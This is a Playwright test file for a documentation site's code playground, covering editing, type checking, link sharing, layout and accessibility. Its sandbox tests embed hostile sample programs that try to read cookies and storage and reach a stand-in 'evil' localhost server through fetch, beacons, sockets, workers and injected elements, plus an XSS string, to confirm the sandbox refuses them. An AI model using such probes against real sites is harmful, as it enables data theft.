import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator } from '@playwright/test';
import { violations } from '../support/axe';
import { drop, hold } from '../support/network';
import { watchShifts } from '../support/shifts';
import { sharedHash, test, Workshop } from '../support/workshop';
import { Sample } from '../support/run';
import {
  expect,
  NARROW,
  open,
  setColorMode,
  sideways,
  test as siteTest,
  WIDE,
} from '../support/site';

const QUICKSTART = '/docs/v10/quickstart';
const PRINTED = ['Listening on http://localhost:3000', 'Ordered 2, 10 left', 'Mug: 10 left'];

test('Edit opens a sample’s program: what breaks on the server turns red in the client, before it runs', async ({
  page,
}) => {
  const loaded: string[] = [];
  page.on('request', (request) => loaded.push(request.url()));
  const sample = await Sample.open(page, QUICKSTART, 'client.ts');
  expect(loaded.filter((url) => /\/play\/|workshop/.test(url))).toEqual([]);
  const ofStrings = await sample.figure
    .locator('.s')
    .first()
    .evaluate((word) => getComputedStyle(word).color);
  const button = sample.figure.getByRole('button', { name: 'Edit' });
  await button.focus();
  await expect
    .poll(() => loaded.filter((url) => /\/play\/.*(compiler|types)\./.test(url)))
    .toHaveLength(2);
  await button.click();

  await expect(page).toHaveURL(/\/playground#program=current\/docs__main__quickstart\.\d+\/\d+$/);
  const workshop = new Workshop(page);
  await workshop.isChecked();
  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
  await expect(workshop.editor('client.ts').locator('.s').first()).toHaveCSS('color', ofStrings);
  await workshop.run.click();
  await expect(workshop.status).toHaveText(/^Ran in/);
  for (const line of PRINTED) {
    await expect(workshop.output).toContainText(line);
  }
  await expect(workshop.wire.first()).toHaveText(/^POST \/order\?/);

  await workshop.replace('server.ts', 'product: t.procedure', 'one: t.procedure');
  await expect(workshop.summary).toHaveText('1 problem in client.ts.');
  await expect(workshop.problems).toContainText(/client\.ts:\d+Property 'product' does not exist/);
  await workshop.problems.click();
  await expect(workshop.editor('client.ts')).toBeFocused();

  await workshop.region.getByRole('button', { name: 'Reset', exact: true }).click();
  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
  await workshop.editor('server.ts').click();
  await page.keyboard.press('Control+z');
  await expect(workshop.summary).toHaveText('1 problem in client.ts.');
});

test('Edit beside a preview opens that sample with its servers; what it renders is there to be used @nightly', async ({
  page,
}) => {
  const sample = await Sample.open(page, '/docs/v10/react-mutations', 'AddComment.tsx');
  await sample.figure.getByRole('button', { name: 'Edit' }).click();
  const workshop = new Workshop(page);
  await workshop.isChecked();
  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
  await expect(workshop.editor('AddComment.tsx')).toBeInViewport();
  await expect(workshop.editor('LikeButton.tsx')).toHaveCount(0);
  await workshop.run.click();
  await expect(workshop.status).toHaveText(/^Ran in/);
  const button = workshop.rendered.getByRole('button').first();
  await expect(button).toBeVisible();
  expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
  await expect(workshop.wire).toHaveCount(0);
  await button.click();
  await expect(workshop.wire.first()).toHaveText(/^POST \/comment\.add.*200$/);
});

test('an editor completes names and shows types, and the keyboard leaves it @nightly', async ({
  page,
}) => {
  const workshop = await Workshop.open(page, 'program=current/docs__main__quickstart.0/1');
  const editor = workshop.editor('client.ts');
  await editor.click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('\nclient.');
  const options = page.getByRole('option');
  await expect(options).toHaveText([/^order/, /^product/]);
  // At first, CodeMirror takes no key for the list, and Enter for a new line: one may not have seen it yet.
  await expect(async () => {
    await page.keyboard.press('ArrowDown');
    await expect(options.last()).toHaveAttribute('aria-selected', 'true', { timeout: 500 });
  }).toPass();
  await page.keyboard.press('ArrowUp');
  await expect(options.first()).toHaveAttribute('aria-selected', 'true');
  await page.keyboard.press('Enter');
  await expect(editor.locator('.cm-line').last()).toHaveText('client.order');

  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  await expect(editor).not.toBeFocused();

  const declaration = editor.locator('.cm-line', { hasText: 'const client' });
  await declaration.scrollIntoViewIfNeeded();
  const place = await declaration.evaluate((line) => {
    const text = Array.from(line.childNodes).find((node) =>
      node.textContent!.startsWith(' client'),
    );
    const range = new Range();
    range.setStart(text!, 1);
    range.setEnd(text!, 7);
    const { x, y, width, height } = range.getBoundingClientRect();
    return { x: x + width / 2, y: y + height / 2 };
  });
  await page.mouse.move(place.x, place.y);
  const type = page.locator('.workshop__type');
  await expect(type).toBeVisible();
  await expect(type).toContainText('order');
  await expect(type).not.toContainText('RouterDef');
});

test('the playground opens a first program, without moving anything, and finds others by a word @nightly', async ({
  page,
}) => {
  await page.setViewportSize(WIDE);
  await page.addInitScript(watchShifts);
  await open(page, '/playground');
  const workshop = new Workshop(page);
  await workshop.isChecked();
  await expect(workshop.region).toHaveAccessibleName(/^Introduction: .*, 9\.x$/);
  await expect(workshop.editor('client.ts')).toContainText('createTRPCClient');
  const shifts = await page.evaluate(() => window.shifts.map(parseFloat));
  expect(shifts.reduce((sum, shift) => sum + shift, 0)).toBeLessThan(0.02);
  await workshop.run.click();
  await expect(workshop.status).toHaveText(/^Ran in/);
  await expect(workshop.output).toHaveText('2700');

  await page.getByRole('link', { name: '10.x', exact: true }).click();
  await expect(page).toHaveURL(/#program=10\.x\/empty$/);
  await workshop.isChecked();
  await expect(workshop.editor('server.ts')).toHaveText('');
  await page.getByRole('searchbox', { name: 'Find a program of 10.x' }).fill('server QUICKST');
  await expect(page.getByText(/^\d of \d+ programs$/)).toBeVisible();
  const list = page.getByRole('list', { name: 'Programs of 10.x' });
  await expect(list.locator('[href^="/"]')).toHaveText(['Quickstart']);
  await list.locator('[href^="#"]').first().click();
  await expect(page).toHaveURL(/#program=10\.x\//);
  await workshop.isChecked();
  await expect(workshop.editor('server.ts')).not.toHaveText('');
});

test('it fills what the navbar leaves of the window, with output beside the files where both have room @nightly', async ({
  page,
}) => {
  const files = { 'a.ts': `console.log('beside'); // ${'long '.repeat(80)}` };
  const workshop = await Workshop.open(page, sharedHash(files));
  await workshop.run.click();
  await expect(workshop.status).toHaveText(/^Ran in/);
  const boxOf = async (part: Locator) => (await part.boundingBox())!;
  for (const [viewport, isBeside] of [
    [{ width: 1280, height: 800 }, true],
    [{ width: 1000, height: 720 }, false],
    [NARROW, false],
  ] as const) {
    await page.setViewportSize(viewport);
    const whole = await boxOf(workshop.region);
    expect(whole.width).toBe(viewport.width);
    const { height } = await boxOf(page.locator('.navbar'));
    expect(Math.abs(viewport.height - height - whole.height)).toBeLessThan(30);
    const scroller = workshop.region.locator('.cm-scroller');
    expect(await scroller.evaluate((one) => one.scrollWidth - one.clientWidth)).toBe(0);
    const file = await boxOf(workshop.editor('a.ts'));
    const output = await boxOf(workshop.output);
    expect(output.x > file.x + file.width - 1).toBe(isBeside);
    await workshop.region.scrollIntoViewIfNeeded();
    await expect(workshop.output).toBeInViewport({ ratio: 0.9 });
  }
  // How the last run ended is not said of what was typed since.
  await workshop.editor('a.ts').click();
  await page.keyboard.insertText('// ');
  await expect(workshop.status).toHaveText('');
});

test('edits last, until one goes back to the original', async ({ page }) => {
  const address = 'program=9.x/empty';
  const workshop = await Workshop.open(page, address);
  await workshop.editor('server.ts').click();
  await page.keyboard.insertText(`console.log('mine');`);
  const release = await hold(page, /\/compiler\./);
  await page.reload();
  // Run cannot be pressed before TypeScript is there, and looks so.
  await expect(workshop.run).toHaveCSS('opacity', '0.65');
  release();
  await expect(workshop.notice).toHaveText(/^Your edits of this program are back/);
  await expect(workshop.editor('server.ts')).toHaveText(`console.log('mine');`);
  await workshop.region.getByRole('button', { name: 'Reset', exact: true }).click();
  await expect(workshop.notice).toHaveCount(0);
  await page.reload();
  await workshop.isChecked();
  await expect(workshop.region.getByRole('button', { name: 'Reset', exact: true })).toBeDisabled();
  await expect(workshop.editor('server.ts')).toHaveText('');
});

siteTest(
  'a link has the whole workshop; what it brings is not run, and is said to have come with it',
  async ({ page, browser }) => {
    const workshop = await Workshop.open(page, sharedHash({ 'a.ts': `console.log('shared');` }));
    await expect(workshop.notice).toHaveText(
      'This program came with a link. Read it before you run it.',
    );
    await expect(workshop.output).toHaveCount(0);
    await page.evaluate(() => Object.defineProperty(navigator, 'clipboard', { value: undefined }));
    await workshop.editor('a.ts').click();
    await page.keyboard.press('Control+End');
    await page.keyboard.insertText(`\nconsole.log('and changed');`);
    await workshop.region.getByRole('button', { name: 'Share' }).click();
    await expect(workshop.region).toContainText('The link is in the address bar');

    const other = await browser.newPage();
    await other.goto(page.url());
    const theirs = new Workshop(other);
    await theirs.isChecked();
    await expect(theirs.output).toHaveCount(0);
    await theirs.run.click();
    await expect(theirs.output).toHaveText('shared\nand changed\n');
    await other.close();
  },
);

test('a shared program that is edited and left within a moment stays its own, and is there when one comes back, or loads the page again @nightly', async ({
  page,
}) => {
  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': '// one' }));
  await workshop.editor('a.ts').click();
  await page.keyboard.press('Control+End');
  // As fast as a script can.
  await page.evaluate(() => {
    document.execCommand('insertText', false, ' and two');
    document.querySelector<HTMLElement>('.navbar__brand')!.click();
  });
  await expect(page).toHaveURL(/\/$/);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(new URL(page.url()).hash).toBe('');
  await page.goBack();
  await expect(workshop.editor('a.ts')).toHaveText('// one and two');
  await page.reload();
  await expect(workshop.editor('a.ts')).toHaveText('// one and two');
});

test('files are added, renamed and removed, and it stays so @nightly', async ({ page }) => {
  const files = { 'a.ts': `import { b } from './c';\nconsole.log(b);`, 'z.ts': '' };
  const workshop = await Workshop.open(page, sharedHash(files));
  await expect(workshop.summary).toHaveText('1 problem in a.ts.');
  const { region } = workshop;
  const menu = region.locator('[popover]');
  const openMenu = () => region.getByRole('button', { name: 'Files', exact: true }).click();
  await openMenu();
  await region.getByRole('textbox', { name: 'Name of a new file' }).fill('b.ts');
  await region.getByRole('button', { name: 'Add' }).click();
  await workshop.editor('b.ts').click();
  await page.keyboard.insertText(`export const b = 'from b';`);
  await expect(menu).toBeHidden();
  await openMenu();
  const name = region.getByRole('textbox', { name: 'Name of b.ts' });
  await name.fill('a.ts');
  await page.keyboard.press('Enter');
  await expect(name).toHaveJSProperty('validationMessage', 'There is a.ts already.');
  await region.getByRole('textbox', { name: 'Name of b.ts' }).fill('c.ts');
  await page.keyboard.press('Enter');
  await expect(workshop.editor('c.ts')).toHaveText(`export const b = 'from b';`);
  await region.getByRole('button', { name: 'Remove z.ts' }).click();
  await page.keyboard.press('Escape');
  await expect(menu).toBeHidden();
  await expect(workshop.editor('z.ts')).toHaveCount(0);
  await expect(workshop.summary).toHaveText('TypeScript finds no problems.');
  await workshop.run.click();
  await expect(workshop.output).toHaveText('from b\n');
  await page.reload();
  await workshop.isChecked();
  await expect(workshop.editor('c.ts')).toHaveText(`export const b = 'from b';`);
  await expect(workshop.editor('z.ts')).toHaveCount(0);

  await test.step('on a phone, the menu is as wide as what it holds', async () => {
    await page.setViewportSize(NARROW);
    await openMenu();
    expect(await menu.evaluate((box) => box.scrollWidth - box.clientWidth)).toBe(0);
  });
});

test('the version menu says the version of the program @nightly', async ({ page }) => {
  const menu = page.locator('.navbar').getByRole('button', { name: /^\d+\.x$/ });
  for (const label of ['10.x', '9.x']) {
    await Workshop.open(page, `program=${label}/main__quickstart.0`);
    await expect(menu).toHaveText(label);
  }
});

test('a list of completions takes at most a third of the window, and stays in it @nightly', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 480 });
  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': `${'\n'.repeat(30)}''` }));
  await workshop.editor('a.ts').click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('.');
  const list = page.locator('.cm-tooltip-autocomplete');
  // CodeMirror puts it out of sight until it knows its size.
  await expect.poll(async () => (await list.boundingBox())?.y).toBeGreaterThanOrEqual(0);
  const { y, height } = (await list.boundingBox())!;
  expect(height).toBeLessThanOrEqual(480 / 3 + 2);
  expect(y + height).toBeLessThanOrEqual(480);
});

test('a program that is too long for a link says so @nightly', async ({ page }) => {
  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': '// one' }));
  await workshop.editor('a.ts').click();
  await page.keyboard.insertText(`/* ${'long '.repeat(15_000)}*/`);
  await workshop.region.getByRole('button', { name: 'Share' }).click();
  await expect(workshop.region).toContainText('too long for a link');
  await page.reload();
  await expect(workshop.editor('a.ts')).toContainText('long long');
});

siteTest(
  'a fault of the site is not taken for one of the connection @nightly',
  async ({ page, consoleErrors }) => {
    await page.route(/\/play\/.*programs\.\w+\.json$/, (route) => route.fulfill({ body: '[{' }));
    await open(page, '/playground#program=10.x/empty');
    await expect(page.getByRole('alert').or(page.getByText('This page crashed'))).toBeVisible();
    await expect(page.getByText('Check the connection')).toHaveCount(0);
    consoleErrors.splice(0);
  },
);

const BROKEN_LINKS = [
  ['lost its end', sharedHash({ 'a.ts': 'let a = 1;' }).slice(0, -8), /^The link does not work/],
  ['is of another time', sharedHash({ 'a.ts': '' }, '10.x/empty', '7.'), /another version of this/],
  ['is of a version that is gone', sharedHash({ 'a.ts': '' }, '8.x/a.0'), /no longer have/],
  ['names a program that is gone', 'program=10.x/gone.0', /no longer have the program/],
] as const;

test('a link that does not work says so, and opens another program @nightly', async ({ page }) => {
  for (const [does, hash, says] of BROKEN_LINKS) {
    const workshop = await Workshop.open(page, hash);
    await expect(workshop.notice, does).toHaveText(says);
    await expect(workshop.run).toBeEnabled();
  }
});

/**
 * What someone may try who hands a link to a reader.
 *
 * @param evil - the address of another site, which would let anyone in
 */
const attempts = (evil: string) => `
const scope = globalThis as any;
const attempt = (begin: (no: () => void) => void) => new Promise((_, no) => begin(no as () => void));
const evil = '${evil}';
scope.navigator?.sendBeacon?.(evil);
const attempts: [string, () => unknown][] = [
  ['storage', () => scope.localStorage.length],
  ['session', () => scope.sessionStorage.length],
  ['cookies', () => scope.document.cookie.length],
  ['databases', () => scope.indexedDB.open('a').name],
  ['caches', () => scope.caches.open('a')],
  ['parent', () => scope.parent.document.title],
  ['top', () => (scope.top.location = evil)],
  ['navigation', () => (scope.location.href = evil)],
  ['popup', () => scope.open(evil).closed],
  ['request', () => attempt((no) => {
    const request = new scope.XMLHttpRequest();
    request.onerror = no;
    request.open('GET', evil);
    request.send();
  })],
  ['socket', () => attempt((no) => {
    new scope.WebSocket(evil.replace('http', 'ws')).onerror = no;
  })],
  ['events', () => attempt((no) => {
    new scope.EventSource(evil).onerror = no;
  })],
  ['worker', () => new scope.Worker(evil).postMessage],
  ['scripts', () => scope.importScripts(evil)],
  ['message', () => scope.postMessage({ type: 'ended' })],
  ['connection', () => new scope.RTCPeerConnection().createDataChannel('a')],
  ['text as code', () => new Function('return 1')()],
  ['fetch', () => fetch(evil)],
  ['module', () => import(/* of another site */ String(evil + 'a.js'))],
];
for (const [name, attempt] of attempts) {
  try {
    await attempt();
    console.log(name, 'WORKED');
  } catch {
    console.log(name, 'refused');
  }
}
console.log('origin', scope.origin);
`;

/** Elements that ask for something elsewhere. */
const markup = (evil: string) => `
const links = ['stylesheet', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon'];
document.body.insertAdjacentHTML('beforeend', \`
  \${links.map((rel) => \`<link rel="\${rel}" href="${evil}\${rel}">\`).join('')}
  <img src="${evil}img"><video src="${evil}video"></video><object data="${evil}object"></object>
  <iframe src="${evil}frame"></iframe><form action="${evil}form"></form>
  <a target="_blank" href="${evil}a" ping="${evil}ping">a</a>\`);
document.querySelector('form')!.submit();
document.querySelector('a')!.click();
console.log('all tried');
`;

/** Starts another site, which would let anyone in, and notes what is asked of it. */
async function startEvil() {
  const reached: string[] = [];
  const evil = http.createServer(({ url }, response) => {
    reached.push(String(url));
    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' };
    response.writeHead(200, headers).end('export {};');
  });
  await new Promise<void>((resolve) => evil.listen(0, resolve));
  const { port } = evil.address() as AddressInfo;
  return { address: `http://localhost:${port}/`, reached, evil };
}

test('a hostile program gets nothing: no storage, page, network, window or code from text', async ({
  page,
  consoleErrors,
}) => {
  const { address, reached, evil } = await startEvil();
  const code = attempts(address);
  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': code }));
  await page.evaluate(() => localStorage.setItem('secret', 'x'));
  await workshop.run.click();
  await expect(workshop.output).toContainText('origin null');
  await expect(workshop.output).not.toContainText('WORKED');
  await expect(workshop.output).toContainText('module refused');
  await expect(workshop.status).toHaveText(/^Ran in/);
  expect(reached).toEqual([]);
  expect(page.url()).toContain('/playground#');
  expect(page.context().pages()).toHaveLength(1);
  // The browser says what the policy refused.
  consoleErrors.splice(0);
  evil.close();
});

/** A program with a document, as someone may write it who means no good. */
const withDocument = (code: string) => sharedHash({ 'a.tsx': code }, '10.x/empty', '1.', 'dom');

test('a hostile program with a document gets no more than one without', async ({
  page,
  consoleErrors,
}) => {
  const { address, reached, evil } = await startEvil();
  // Another document of the frame would leave this one nothing to say: so it is asked for elsewhere.
  const code = attempts(address).replace(/ {2}\['navigation'.*\n/, '');
  const workshop = await Workshop.open(page, withDocument(`${code}${markup(address)}`));
  await expect(page.locator('iframe'), 'it does not run by itself').toHaveCount(0);
  await workshop.run.click();
  await expect(workshop.output).toContainText('all tried');
  await expect(workshop.output).toContainText('origin null');
  await expect(workshop.output).not.toContainText('WORKED');
  // What a form leads the frame to is refused, and the program with it.
  await expect(workshop.status).not.toHaveText('Running…');
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toContain('/playground#');

  // What the site embeds, its own policy would allow.
  const embedded = 'https://platform.twitter.com/';
  await page.route(`${embedded}**`, (route) => route.fulfill({ body: '' }));
  page.on('response', (response) => {
    if (response.url().startsWith(embedded)) {
      reached.push(response.url());
    }
  });
  for (const away of [`${address}away`, `${embedded}away`]) {
    await page.goto('about:blank');
    const leaving = await Workshop.open(page, withDocument(`location.href = '${away}';`));
    await leaving.run.click();
    await expect(leaving.status).toHaveText(/^(Ran|Failed|Stopped)/);
    await page.waitForTimeout(500);
  }
  expect(reached).toEqual([]);
  consoleErrors.splice(0);
  evil.close();
});

test('a loop without end beside a document is stopped, and the page is usable @nightly', async ({
  page,
}) => {
  const workshop = await Workshop.open(page, withDocument(`console.log('a'); for (;;) {}`));
  await workshop.run.click();
  await expect(workshop.status).toHaveText(/^(Failed|Stopped after 5 s)$/);
  await workshop.editor('a.tsx').click();
  await page.keyboard.insertText('// ');
  await expect(workshop.editor('a.tsx')).toContainText('//');
});

test('text of a program is text @nightly', async ({ page }) => {
  const markup = '<img src=x onerror=alert(1)>';
  const code = `console.log('${markup}', process.env.NODE_ENV);`;
  const workshop = await Workshop.open(page, sharedHash({ 'a.ts': code }));
  await workshop.run.click();
  await expect(workshop.output).toHaveText(`${markup} production\n`);
});

siteTest(
  'an editor that does not load says so, and loads the next time @nightly',
  async ({ page, consoleErrors }) => {
    await open(page, '/docs/v10/quickstart');
    const restore = await drop(page, /\/play\/.*programs\.\w+\.json$/);
    await page.goto('/playground#program=10.x/empty');
    await expect(page.getByRole('alert')).toContainText('The editor did not load.');
    await restore();
    await page.getByRole('button', { name: 'Try again' }).click();
    await new Workshop(page).isChecked();
    consoleErrors.splice(0);
  },
);

for (const [where, viewport] of [
  ['a wide screen @nightly', WIDE],
  ['a phone @nightly', NARROW],
] as const) {
  test(`all of it is in sight, told apart, and named on ${where}`, async ({ page }) => {
    await page.setViewportSize(viewport);
    const files = { 'server.ts': 'const a: string = 1;\n', 'client.ts': '// "b"\nb();\n' };
    const workshop = await Workshop.open(page, sharedHash(files));
    await expect(workshop.problems).toHaveCount(2);
    const tabs = page.getByRole('group', { name: 'Files' });
    const tab = tabs.getByRole('button', { name: /^client\.ts/ });
    if (viewport === NARROW) {
      await expect(workshop.editor('client.ts')).toBeHidden();
      await tab.click();
    } else {
      await expect(tab).toBeHidden();
      await expect(workshop.editor('server.ts')).toBeVisible();
    }
    await expect(workshop.editor('client.ts')).toBeVisible();
    expect(await sideways(page)).toBe(0);
    // The test before may have left the page where the navbar lies over the buttons.
    await page.evaluate(() => window.scrollTo({ top: 0 }));
    for (const mode of ['light', 'dark'] as const) {
      await setColorMode(page, mode);
      expect(await violations(page, { include: '.workshop' })).toEqual([]);
    }
  });
}

siteTest.describe('without JavaScript', () => {
  siteTest.use({ javaScriptEnabled: false });

  siteTest('the playground says that it needs it, and has no dead buttons', async ({ page }) => {
    await page.goto('/playground');
    const main = page.getByRole('main');
    await expect(main).toContainText('It needs JavaScript.');
    await expect(main.getByRole('button')).toHaveCount(0);
    await page.goto(QUICKSTART);
    await expect(page.getByRole('button', { name: 'Edit' })).toHaveCount(0);
  });
});
